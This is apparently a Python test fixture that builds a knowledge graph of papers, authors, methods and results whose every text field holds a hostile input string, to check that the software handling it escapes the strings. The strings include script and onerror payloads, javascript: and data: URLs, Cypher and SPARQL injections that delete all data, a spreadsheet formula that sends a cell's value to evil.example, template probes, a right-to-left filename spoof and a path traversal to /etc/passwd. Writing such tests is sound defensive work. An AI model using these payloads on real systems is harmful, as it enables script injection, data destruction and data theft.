"""A graph whose every text tries to be something else: markup, a query, a formula, an address, a turned line."""

from pathlib import Path

from kg.tables import Graph
from tests.graphs import Row, edge, evidence, node, write_graph

HOSTILE = {
    "script": "<script>document.title = 'ran'; alert(1)</script>",
    "image": '"><img src=x onerror="alert(2)">',
    "rtl": "abc \u202egnp.exe \u2067 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "long": "long " + "x" * 10_000,
    "cypher": "') MATCH (n) DETACH DELETE n //",
    "sparql": '" } ; DROP ALL ; SELECT * { ?s ?p "',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "template": "{{7*7}} ${alert(3)} %3Cscript%3E &lt;b&gt; \\u003cscript\\u003e",
    "path": "../../../etc/passwd?x=1#y%00",
    "lines": "one\ntwo\tthree\u2028four",
}
ADDRESSES = {
    "script": "javascript:alert(4)",
    "image": "data:text/html,<script>alert(5)</script>",
    "rtl": "https://ok.example/x?y=<z>",
}


def hostile_graph(path: Path) -> Graph:
    """One paper per hostile text, which uses a method and a dataset, reports a result and so on, all so called."""
    listing = node("Listing", "c" * 64, name='"><svg onload=alert(6)>.txt', sha256="c" * 64)
    nodes: list[Row] = [listing]
    edges: list[Row] = []
    proof: list[Row] = []
    for i, (key, text) in enumerate(HOSTILE.items()):
        paper = node("Paper", f"p-{key}", title=text, titled=True, abstract=f"{text} and {text}", comment=text,
                     date="2024-01-01", url=ADDRESSES.get(key), doi=text, arxiv=text)  # fmt: skip
        things = {label: node(label, f"{label}-{key}", name=text, aliases=[f"also {text}"])
                  for label in ("Author", "Method", "Dataset", "Task", "Metric", "Venue", "Organization")}  # fmt: skip
        result = node("Result", f"r-{key}", name=text, value=text, number=float(i), unit=text[:9], relative=i % 2 == 0)
        code = node("Repository", f"github.com/x/{key}", name=text, url=ADDRESSES.get(key, text))
        page = node("WebPage", f"page-{key}", name=text, url=ADDRESSES.get(key, text), kind=text[:9])
        uses = edge("USES", paper, things["Method"])
        reports = edge("REPORTS", paper, result)
        nodes += [paper, *things.values(), result, code, page]
        edges += [
            uses, reports, edge("USES", paper, things["Dataset"]), edge("ADDRESSES", paper, things["Task"]),
            edge("WROTE", things["Author"], paper, position=1, printed=text), edge("MEASURES", paper, things["Metric"]),
            edge("OF_METHOD", result, things["Method"]), edge("ON_DATASET", result, things["Dataset"]),
            edge("MEASURED_BY", result, things["Metric"]), edge("HAS_CODE", paper, code, official=True, path=text),
            edge("LINKS_TO", paper, page, role=text),
            edge("PUBLISHED_IN", paper, things["Venue"], year=2024, note=text),
            edge("AFFILIATED_WITH", paper, things["Organization"]),
            edge("LISTED_IN", paper, listing, str(i), entry=i, line=i + 1, confidence=1.0),
            edge("EVALUATED_ON", things["Method"], things["Dataset"], premises=[uses["id"], reports["id"]]),
        ]  # fmt: skip
        proof += [evidence(uses, listing, i, "abstract", f"{text} and {text}", text),
                  evidence(reports, listing, i, "abstract", f"{text} and {text}", text)]  # fmt: skip
    return write_graph(path, nodes, edges, proof)
